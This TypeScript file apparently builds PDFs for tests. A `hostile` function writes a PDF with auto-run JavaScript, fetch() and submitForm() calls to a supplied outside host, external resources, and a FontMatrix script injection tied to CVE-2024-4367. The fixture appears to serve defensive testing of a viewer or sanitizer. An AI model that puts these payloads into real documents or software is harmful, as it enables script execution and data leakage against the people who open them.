// PDFs made by hand: each object is written as the format has it, and numbered from 1.

/** A document of these objects; the first is its catalogue. */
export function pdf(objects: string[]): Buffer {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(at).padStart(10, '0')} 00000 n \n`;
  });
  const table = text.length;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text, 'latin1');
}

/** An object with content. */
export function stream(entries: string, content: string): string {
  return `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';

/** One page for each text. */
export function pages(texts: string[]): Buffer {
  const kids = texts.map((_, index) => `${4 + 2 * index} 0 R`).join(' ');
  const each = texts.flatMap((text, index) => [
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents ${5 + 2 * index} 0 R /Resources << /Font << /F 3 0 R >> >> >>`,
    stream('', `BT /F 18 Tf 20 50 Td (${text}) Tj ET`),
  ]);
  return pdf(['<< /Type /Catalog /Pages 2 0 R >>', `<< /Type /Pages /Kids [${kids}] /Count ${texts.length} >>`, FONT, ...each]);
}

/** One that would run scripts, open windows and send forms, and fetch a picture and a font from `outside`. */
export function hostile(outside: string): Buffer {
  const script = `app.alert\\(1\\); document.title = 'taken'; fetch\\('${outside}/script'\\); this.submitForm\\('${outside}/form'\\);`;
  const act = `<< /S /JavaScript /JS (${script}) >>`;
  const picture = '/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray';
  return pdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> >> ' +
      '/AcroForm << /Fields [7 0 R] /XFA (<xdp/>) /NeedAppearances true >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /AA << /O 6 0 R >> /Annots [7 0 R 9 0 R] ' +
      '/Resources << /Font << /F 5 0 R >> /XObject << /X 8 0 R >> >> >>',
    stream('', 'BT /F 18 Tf 20 50 Td (Harmless) Tj ET /X Do'),
    // What once was run as part of a program that draws letters (CVE-2024-4367).
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); ${script} \\(0)] >>`,
    act,
    '<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [0 0 50 20] /A 6 0 R /AA << /PO 6 0 R /Fo 6 0 R >> >>',
    stream(`${picture} /F << /FS /URL /F (${outside}/picture) >>`, ''),
    `<< /Type /Annot /Subtype /Link /Rect [0 0 200 100] /A << /S /URI /URI (${outside}/link) >> >>`,
  ]);
}
